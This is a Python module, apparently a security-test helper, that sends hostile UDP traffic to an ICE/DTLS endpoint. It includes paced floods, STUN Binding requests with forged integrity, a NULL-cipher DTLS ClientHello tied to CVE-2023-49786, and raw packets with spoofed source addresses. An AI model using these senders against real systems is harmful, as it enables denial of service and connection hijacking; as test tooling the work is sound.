"""Senders of unwelcome datagrams, with bounded rate and count. Blocking: run them in a thread."""

import os
import random
import socket
import struct
import time
from collections.abc import Iterable
from pathlib import Path

STUN_MAGIC_COOKIE = 0x2112A442
BURST = 50


def send_paced(datagrams: Iterable[bytes], target: tuple[str, int], *, per_second: int) -> int:
    """From one socket that validated nothing; returns how many were sent."""
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as attacker:
        start = time.monotonic()
        for datagram in datagrams:
            attacker.sendto(datagram, target)
            sent += 1
            if sent % BURST == 0:
                _wait_until(start + sent / per_second)
    return sent


def answers_to(
    datagrams: Iterable[bytes], target: tuple[str, int], *, wait_s: float
) -> list[bytes]:
    """Sends them from one socket and returns every datagram that comes back to it."""
    answers = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as attacker:
        attacker.settimeout(wait_s)
        for datagram in datagrams:
            attacker.sendto(datagram, target)
        try:
            while True:
                answers.append(attacker.recv(2048))
        except TimeoutError:
            return answers


def stun_binding_request(ufrag: str, *, use_candidate: bool = False) -> bytes:
    """A well-formed Binding request (RFC 8489) whose MESSAGE-INTEGRITY is made up."""
    username = f"{ufrag}:attacker".encode()
    attributes = _attribute(0x0006, username)
    attributes += _attribute(0x0024, struct.pack("!I", 0x7FFFFFFF))  # PRIORITY
    if use_candidate:
        attributes += _attribute(0x0025, b"")
    attributes += _attribute(0x0008, os.urandom(20))
    header = struct.pack("!HHI12s", 0x0001, len(attributes), STUN_MAGIC_COOKIE, os.urandom(12))
    return header + attributes


def client_hello() -> bytes:
    """A DTLS 1.2 ClientHello that offers TLS_NULL_WITH_NULL_NULL only (CVE-2023-49786)."""
    body = (
        b"\xfe\xfd" + random.randbytes(32) + b"\x00" + b"\x00" + b"\x00\x02\x00\x00" + b"\x01\x00"
    )
    length = len(body).to_bytes(3, "big")
    handshake = b"\x01" + length + b"\x00\x00" + b"\x00\x00\x00" + length + body
    record = b"\x16\xfe\xff" + b"\x00\x00" + b"\x00" * 6 + len(handshake).to_bytes(2, "big")
    return record + handshake


def local_udp_addresses(*, except_port: int) -> list[tuple[str, int]]:
    """IPv4 addresses of the sockets that are open in this network namespace."""
    addresses = []
    for line in Path("/proc/thread-self/net/udp").read_text().splitlines()[1:]:
        address, port = line.split()[1].split(":")
        if int(port, 16) != except_port:
            host = socket.inet_ntoa(struct.pack("=I", int(address, 16)))
            addresses.append((host, int(port, 16)))
    return addresses


def send_spoofed(payload: bytes, source: tuple[str, int], target: tuple[str, int]) -> None:
    """One UDP datagram with a source address that is somebody else's. Needs root."""
    udp = struct.pack("!HHHH", source[1], target[1], 8 + len(payload), 0) + payload
    ip = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        20 + len(udp),
        0,
        0,
        64,
        socket.IPPROTO_UDP,
        0,
        socket.inet_aton(source[0]),
        socket.inet_aton(target[0]),
    )
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.sendto(ip + udp, (target[0], 0))


def _attribute(kind: int, value: bytes) -> bytes:
    padding = b"\x00" * (-len(value) % 4)
    return struct.pack("!HH", kind, len(value)) + value + padding


def _wait_until(deadline: float) -> None:
    if (remaining := deadline - time.monotonic()) > 0:
        time.sleep(remaining)
